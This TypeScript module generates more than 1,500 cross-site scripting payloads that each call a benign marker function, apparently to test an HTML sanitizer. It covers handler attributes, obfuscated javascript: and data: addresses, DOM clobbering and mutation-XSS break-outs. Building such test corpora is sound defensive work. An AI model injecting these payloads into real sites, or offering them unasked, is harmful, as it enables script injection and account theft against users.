/**
 * Hostile HTML, made: every payload calls `taHit(<its number>)` when it runs. Shapes are those of the public
 * collections (handlers, drawings, clobbering, frames, addresses, mutation).
 */
export interface Payload {
  readonly kind: string;
  /** With `taHit(n)` in it. */
  readonly html: (call: string) => string;
}

const eventTags = [
  'a',
  'audio',
  'b',
  'body',
  'button',
  'details',
  'dialog',
  'div',
  'embed',
  'form',
  'iframe',
  'img',
  'input',
  'keygen',
  'link',
  'marquee',
  'math',
  'menu',
  'object',
  'p',
  'picture',
  'select',
  'source',
  'span',
  'style',
  'svg',
  'table',
  'td',
  'textarea',
  'ta-login',
  'video',
  'xss',
];
const events = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onstart',
  'onloadstart',
  'onanimationstart',
  'onpageshow',
  'oncanplay',
  'onbeforetoggle',
  'onscrollsnapchange',
  'oncontentvisibilityautostatechange',
  'OnErRoR',
];
const starts = 'src="data:,x" href="data:,x" autofocus tabindex=1 open loop=1 data="data:,x"';

const handlers = eventTags.flatMap((tag) =>
  events.map(
    (event): Payload => ({
      kind: 'handler',
      html: (call) => `<${tag} ${starts} ${event}="${call}">x</${tag}>`,
    }),
  ),
);

/** Ways to write an attribute with a handler on a picture that cannot be loaded. */
const spellings = [
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `<img src=x onerror='${call}'>`,
  (call: string) => `<img src=x onerror\n=\n"${call}">`,
  (call: string) => `<img/src=x/onerror=${call}>`,
  (call: string) => `<img src=x\tonerror=${call}//>`,
  (call: string) => `<img src="x" alt="\`><img src=x onerror=${call}>"`,
  (call: string) => `<IMG SRC=x ONERROR="${call}">`,
  (call: string) => `<img src=x onerror="&#${call.charCodeAt(0)};${call.slice(1)}">`,
  (call: string) => `<img src=x onerror="&#x${call.charCodeAt(0).toString(16)};${call.slice(1)}">`,
  (call: string) => `<img srcset="x" onerror="${call}">`,
  (call: string) => `<image src=x onerror="${call}">`,
  (call: string) => `<<img src=x onerror="${call}">`,
  (call: string) => `<a title="><img src=x onerror=${call}>">t</a><img src=x onerror="${call}"`,
  (call: string) => `<img src=x onerror="${call}" style="display:none">`,
  (call: string) => `<video><source onerror="${call}"></video>`,
  (call: string) => `<picture><source srcset=x><img onerror="${call}" src=x></picture>`,
  (call: string) => `<img src=x:x onerror=${call.replace('(', '&lpar;').replace(')', '&rpar;')}>`,
];
/** Places from which the markup is to break out. */
const wrappings: readonly (readonly [string, string])[] = [
  ['', ''],
  ['<p>A new book</p>', '<p>End</p>'],
  ['<table><tr><td>', '</td></tr></table>'],
  ['<table>', '</table>'],
  ['<ul><li>', '</ul>'],
  ['<svg>', '</svg>'],
  ['<svg><foreignObject>', '</foreignObject></svg>'],
  ['<svg><desc>', '</desc></svg>'],
  ['<svg><style>', '</style></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<math><mtext>', '</mtext></math>'],
  ['<math><mi>', '</mi></math>'],
  ['<math><annotation-xml encoding="text/html">', '</annotation-xml></math>'],
  ['<noscript><p title="</noscript>', '"></noscript>'],
  ['<xmp><p title="</xmp>', '"></xmp>'],
  ['<iframe><p title="</iframe>', '"></iframe>'],
  ['<noembed><p title="</noembed>', '"></noembed>'],
  ['<noframes><p title="</noframes>', '"></noframes>'],
  ['<style><p title="</style>', '"></style>'],
  ['<title><p title="</title>', '"></title>'],
  ['<textarea><p title="</textarea>', '"></textarea>'],
  ['<template>', '</template>'],
  ['<template shadowrootmode=open>', '</template>'],
  ['<div><template shadowrootmode="open">', '</template></div>'],
  ['<select><option>', '</option></select>'],
  ['<select><template>', '</template></select>'],
  ['<!--><!--', '-->'],
  ['<!--', '-->'],
  ['<!-- --!>', '-->'],
  ['<![CDATA[', ']]>'],
  ['<svg><![CDATA[', ']]></svg>'],
  ['<?xml ', '?>'],
  ['<plaintext>', ''],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<math><mtext><table><mglyph><style><!--</style>', '--></style>'],
  ['<svg></p><style><a id="</style>', '"></style>'],
  ['<math></p><style><!--</style>', '--></style></math>'],
  ['<form id=f><input name=parentNode><input name=attributes>', '</form>'],
  ['<form><input name=childNodes><input name=removeAttribute>', '</form>'],
  ['<a id=document></a><a id=document name=body></a>', ''],
  ['<a><b><a><b><a>', '</a></b></a>'],
  ['<div '.repeat(40) + '>', '</div>'],
  ['<div>'.repeat(300), '</div>'.repeat(300)],
  ['<b>'.repeat(300), ''],
];
const broken = wrappings.flatMap(([before, after]) =>
  spellings.map(
    (spell): Payload => ({ kind: 'breaking out', html: (call) => `${before}${spell(call)}${after}` }),
  ),
);

/** Ways to write an address that runs. */
const addresses: readonly ((call: string) => string)[] = [
  (call) => `javascript:${call}`,
  (call) => `JaVaScRiPt:${call}`,
  (call) => ` javascript:${call}`,
  (call) => `\tjavascript:${call}`,
  (call) => `java\tscript:${call}`,
  (call) => `java\nscript:${call}`,
  (call) => `java&Tab;script:${call}`,
  (call) => `java&NewLine;script:${call}`,
  (call) => `javascript&colon;${call}`,
  (call) => `&#106;avascript:${call}`,
  (call) => `&#x6a;avascript&#58;${call}`,
  (call) => `&#0000106avascript:${call}`,
  (call) => `\u0001javascript:${call}`,
  (call) => `javascript://%0a${call}`,
  (call) => `javascript:'<script>${call}</script>'`,
  (call) => `data:text/html,<script>parent.${call}</script>`,
  (call) => `data:text/html;base64,${btoa(`<script>parent.${call}</script>`)}`,
  (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${call}'/>`,
  (call) => `vbscript:${call}`,
  (call) => `blob:javascript:${call}`,
];
/** Markup that follows an address, by a press or by itself. */
const followers: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">press</a>`,
  (address) => `<a href="${address}" target=_self>press</a>`,
  (address) => `<a xlink:href="${address}">press</a>`,
  (address) => `<svg><a href="${address}"><text y=20>press</text></a></svg>`,
  (address) => `<svg><a xlink:href="${address}"><rect width=9 height=9></rect></a></svg>`,
  (address) => `<math href="${address}">press</math>`,
  (address) => `<map><area href="${address}" shape=default></map>`,
  (address) => `<form action="${address}"><button>press</button></form>`,
  (address) => `<form><button formaction="${address}">press</button></form>`,
  (address) => `<form><input type=submit formaction="${address}"></form>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<frameset><frame src="${address}"></frameset>`,
  (address) => `<img src="${address}">`,
  (address) => `<img src="${address}" srcset="${address} 2x">`,
  (address) => `<svg><image href="${address}"/></svg>`,
  (address) => `<svg><use href="${address}#x"/></svg>`,
  (address) => `<svg><set attributeName=href to="${address}"/></svg>`,
  (address) => `<svg><a><animate attributeName=href values="${address}"/><text y=20>press</text></a></svg>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<div style="background:url('${address}')">x</div>`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<base href="${address}/"><a href="#">press</a>`,
  (address) => `<video poster="${address}" src="${address}"></video>`,
];
const followed = followers.flatMap((follow) =>
  addresses.map((write): Payload => ({ kind: 'address', html: (call) => follow(write(call)) })),
);

const single: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<SCRIPT>${call}</SCRIPT>`,
  (call) => `<script src="data:text/javascript,${call}"></script>`,
  (call) => `<script type=module>${call}</script>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<math><script>${call}</script></math>`,
  (call) => `<svg onload="${call}">`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><animatetransform onbegin=${call} attributeName=transform dur=1s>`,
  (call) => `<svg><image href=x onerror=${call}></image></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="&lt;img src=x onerror=parent.${call}&gt;"></iframe>`,
  (call) => `<details open ontoggle=${call}><summary>x</summary></details>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<style>@keyframes k{}</style><b style="animation:k 1s" onanimationstart="${call}">x</b>`,
  (call) => `<style onload=${call}>a{}</style>`,
  (call) => `<link rel=stylesheet href="data:text/css,a{}" onload=${call}>`,
  (call) => `<object data="data:text/html,x" onload=${call}></object>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<div contenteditable autofocus onfocus=${call}>x</div>`,
  (call) => `<div popover id=q onbeforetoggle=${call}>x</div><button popovertarget=q>press</button>`,
  (call) => `<xss is="x" onfocus=${call} autofocus tabindex=1>x</xss>`,
  (call) => `<a id=x tabindex=1 onfocusin=${call} autofocus>x</a>`,
  (call) => `<audio src=x onerror=${call}></audio>`,
  (call) => `<video onloadstart=${call}><source></video>`,
  (call) => `<body onload=${call}>x</body>`,
  (call) => `</div></div></div><img src=x onerror=${call}>`,
  (call) =>
    `<math><mtext><table><mglyph><style><math><img src onerror=${call}></style></mglyph></table></mtext></math>`,
  (call) => `<svg></p><style><g title="</style><img src onerror=${call}>">`,
  (call) =>
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${call} src>">`,
  (call) => `<noscript><style></noscript><img src=x onerror="${call}">`,
  (call) =>
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${call}"></style></annotation-xml></math>`,
  (call) => `<svg><style>&lt;img src=x onerror=${call}&gt;</style></svg>`,
  (call) => `&lt;img src=x onerror=${call}&gt;`,
  (call) => `<p title="&quot;><img src=x onerror=${call}>">x</p>`,
];
const others = single.map((html): Payload => ({ kind: 'single', html }));

/** Over 1,500 payloads; the same on every run. */
export const payloads: readonly Payload[] = [...handlers, ...broken, ...followed, ...others];
